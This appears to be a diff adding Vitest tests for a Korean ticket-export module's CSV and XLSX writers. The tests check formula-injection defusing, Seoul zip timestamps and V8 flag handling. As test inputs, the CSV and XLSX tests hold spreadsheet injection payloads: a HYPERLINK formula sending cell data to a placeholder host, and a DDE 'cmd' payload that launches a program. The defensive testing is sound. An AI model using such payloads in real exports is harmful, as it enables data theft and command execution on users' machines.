@@ -4,8 +4,9 @@
 // filter; the CSV bytes and the XLSX (our sheet writer in yazl's zip) hold what the columns
 // say, the same rows both; the zip's entries carry Seoul time stamps and valid CRCs; and a
 // large workbook streams (read ahead only as far as the reader takes it).
+import v8 from "node:v8";
 import zlib from "node:zlib";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import fc from "fast-check";
 import ExcelJS from "exceljs";
 import { removeTestDatabase } from "../support/test-db";
@@ -33,6 +34,7 @@ import {
   xmlText,
 } from "~/models/monitor-export.server";
 import { xlsxCrcThroughZlib } from "~/models/export/xlsx.server";
+import { FORMULA_START } from "~/models/export/csv.server";
 
 const TODAY = "2026-11-27";
 let monitor: Actor;
@@ -241,6 +243,26 @@ describe("CSV", () => {
     expect(csvField("줄\n바꿈")).toBe('"줄\n바꿈"');
   });
 
+  it("defuses every character a spreadsheet starts a formula with: = + - @, TAB, CR, NUL and their compatibility forms", () => {
+    // OWASP's list (= + - @ TAB CR) and ASVS's NUL, plus every character that Unicode's NFKC folds
+    // to = + - @ (full-width ＝＋－＠, small ﹦﹢﹣﹫, super- and subscript ⁺⁼₊₌…): Excel in Korean
+    // and Japanese locales reads the full-width forms as the ASCII ones.
+    const starts = ["\t", "\r", "\0"];
+    for (let code = 0; code <= 0xffff; code++) {
+      const c = String.fromCharCode(code);
+      if (code < 0xd800 || code > 0xdfff) if ("=+-@".includes(c.normalize("NFKC")[0])) starts.push(c);
+    }
+    expect(starts).toEqual(expect.arrayContaining(["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "⁺"]));
+    for (const start of starts) {
+      const value = `${start}HYPERLINK("http://x.invalid/?"&A1,"열기")`;
+      expect(csvField(value), JSON.stringify(start)).toBe(`"'${value.replace(/"/g, '""')}"`);
+    }
+    // what does not start a formula stays as it was
+    expect(csvField("a\tb")).toBe("a\tb");
+    expect(csvField("가=1")).toBe("가=1");
+    expect(csvField("'인용")).toBe("'인용");
+  });
+
   it("streams BOM, Korean header and one line per ticket, byte for byte what csvLine gives", async () => {
     const f = filters("");
     const rows = await collect(monitor, f, { fast: false });
@@ -307,6 +329,31 @@ describe("XLSX", () => {
           expect(cell.numFmt, where).toBe("yyyy-mm-dd");
         } else expect(cell.value, where).toBe(readBack(String(v)));
       });
+    });
+  });
+
+  it("writes text that looks like a formula as text: an inline string, never a formula cell", async () => {
+    const row = (await collect(monitor, filters("")))[0];
+    const titles = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=cmd|' /C calc'!A0"];
+    const batch = titles.map((title, i) => ({ ...row, number: `AS-X-${i}`, title }));
+    const file = await bytesOf(
+      xlsxStreamOf(
+        (async function* () {
+          yield batch;
+        })(),
+      ),
+    );
+    const sheetXml = zipEntries(file)
+      .find((e) => e.name === XLSX_SHEET_PATH)!
+      .data.toString("utf8");
+    expect(sheetXml).not.toMatch(/<f[ >]/); // SpreadsheetML has a formula only in an <f> element
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(file as unknown as ArrayBuffer);
+    const sheet = workbook.getWorksheet(XLSX_SHEET_NAME)!;
+    titles.forEach((title, i) => {
+      const cell = sheet.getRow(i + 2).getCell(2);
+      expect(cell.type, JSON.stringify(title)).toBe(ExcelJS.ValueType.String);
+      expect(cell.value).toBe(readBack(title));
     });
   });
 
@@ -428,7 +475,7 @@ describe("XLSX and CSV", () => {
         const v = row.getCell(c + 1).value;
         const cell = v === null || v === undefined ? "" : v instanceof Date ? v.toISOString().slice(0, 10) : String(v);
         // the CSV defuses formulas with a leading ', and a spreadsheet keeps no control characters
-        const csvValue = readBack(/^'[=+\-@]/.test(field) ? field.slice(1) : field);
+        const csvValue = readBack(field.startsWith("'") && FORMULA_START.test(field.slice(1)) ? field.slice(1) : field);
         expect(cell, `row ${r + 1} ${EXPORT_COLUMNS[c].header}`).toBe(csvValue);
       });
     });
@@ -451,6 +498,20 @@ describe("XLSX zip (yazl)", () => {
     expect(await withTimeZone("UTC", async () => seoulZipMtime(now).getHours())).toBe(0);
   });
 
+  it("stamps a Seoul time that the server's zone skips (its spring-forward hour) as it is", async () => {
+    // 02:30 on the day the clocks go forward does not exist in Los Angeles, Berlin or New York;
+    // in Seoul it is an ordinary time, and the archive must say so
+    const cases = [
+      { zone: "America/Los_Angeles", now: "2026-03-07T17:30:11Z", seoul: "2026-03-08 02:30:10" },
+      { zone: "America/New_York", now: "2026-03-07T17:30:11Z", seoul: "2026-03-08 02:30:10" },
+      { zone: "Europe/Berlin", now: "2026-03-28T17:30:11Z", seoul: "2026-03-29 02:30:10" },
+    ];
+    for (const { zone, now, seoul } of cases) {
+      const file = await withTimeZone(zone, () => bytesOf(xlsxStream(monitor, filters("state=agreed"), { now: new Date(now) })));
+      for (const e of zipEntries(file)) expect(dosWallClock(e.dosDate, e.dosTime), `${zone} ${e.name}`).toBe(seoul);
+    }
+  });
+
   it("stamps now by default, and every entry's CRC is right", async () => {
     const before = new Date();
     const entries = zipEntries(await bytesOf(xlsxStream(monitor, filters(""))));
@@ -461,6 +522,28 @@ describe("XLSX zip (yazl)", () => {
     }
     expect(entries.find((e) => e.name === "xl/workbook.xml")!.data.toString("utf8")).toBe(XLSX_PARTS["xl/workbook.xml"]);
     expect(xlsxCrcThroughZlib()).toBe(true);
+  });
+});
+
+describe("export memory", () => {
+  it("changes no V8 flag while an export runs, ends, fails or is cancelled (issue 13, item 9)", async () => {
+    // V8 flags are meant to be set before the isolate starts; changing them later is unsupported
+    // (docs/decisions/016): the server gets its memory settings on its command line instead.
+    const setFlags = vi.spyOn(v8, "setFlagsFromString").mockImplementation(() => {});
+    try {
+      await bytesOf(csvStream(monitor, filters("")));
+      await bytesOf(xlsxStream(monitor, filters("")));
+      for (const stream of [csvStream(monitor, filters("")), xlsxStream(monitor, filters(""))]) {
+        const reader = stream.getReader();
+        await reader.read();
+        await reader.cancel();
+      }
+      const failingRead: AsyncIterable<ExportRow[]> = { [Symbol.asyncIterator]: () => ({ next: () => Promise.reject(new Error("읽기 실패")) }) };
+      await expect(bytesOf(xlsxStreamOf(failingRead))).rejects.toThrow("읽기 실패");
+      expect(setFlags).not.toHaveBeenCalled();
+    } finally {
+      setFlags.mockRestore();
+    }
   });
 });
 
